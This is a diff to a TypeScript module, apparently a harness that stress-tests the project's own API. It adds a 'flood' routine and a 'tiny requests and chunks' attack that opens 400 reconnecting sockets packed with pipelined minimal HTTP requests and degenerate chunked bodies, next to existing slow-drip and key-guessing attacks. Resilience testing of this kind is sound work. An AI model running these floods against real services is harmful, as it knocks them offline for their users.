@@ -1,3 +1,4 @@
+import { once } from 'node:events';
 import { setTimeout as wait } from 'node:timers/promises';
 import { gzipSync } from 'node:zlib';
 import type { Target } from './target.ts';
@@ -13,7 +14,7 @@ export interface Loot {
 type Attack = (target: Target, loot: Loot, isOn: () => boolean) => Promise<void>;
 
 const json = { 'content-type': 'application/json' };
-const mib = 1024 * 1024;
+const [kib, mib] = [1024, 1024 * 1024];
 
 /** So many side by side, each again and again. */
 async function inLoops(count: number, isOn: () => boolean, act: (n: number) => Promise<unknown>): Promise<void> {
@@ -34,6 +35,15 @@ async function drip(target: Target, count: number, beginning: string, isOn: () =
       socket.write('x');
     }
     socket.destroy();
+  });
+}
+
+/** So many connections, each of which sends all of this at once; one that is cut is opened anew at once. */
+async function flood(target: Target, count: number, sent: (n: number) => Buffer, isOn: () => boolean): Promise<void> {
+  await inLoops(count, isOn, async (n) => {
+    const socket = target.open();
+    socket.write(sent(n));
+    await once(socket, 'close').catch(() => undefined);
   });
 }
 
@@ -133,6 +143,17 @@ export const attacks: Record<string, Attack> = {
       await target.send('POST', '/api/v1/customers/search', own, JSON.stringify({ search }));
       await target.send('POST', '/api/v1/audit/search', own, JSON.stringify({ search }));
     });
+  },
+  'tiny requests and chunks': async (target, _, isOn) => {
+    const filled = (head: string, text: string) => Buffer.from(head + text.repeat(Math.ceil((64 * kib) / text.length)));
+    const chunked = 'POST /api/v1/session HTTP/1.1\r\nhost: h\r\ntransfer-encoding: chunked\r\n\r\n';
+    const bodies = [
+      filled('', 'GET / HTTP/1.1\r\n\r\n'),
+      filled(chunked, '1\r\n0\r\n'),
+      filled('', 'GET / HTTP/1.1\r\nhost:h\r\n\r\n'),
+      filled('', 'POST / HTTP/1.1\r\nhost:h\r\ncontent-length:1\r\n\r\n0'),
+    ];
+    await flood(target, 400, (n) => bodies[n % bodies.length]!, isOn);
   },
   'guessed keys': async (target, _, isOn) => {
     await inLoops(20, isOn, () => {
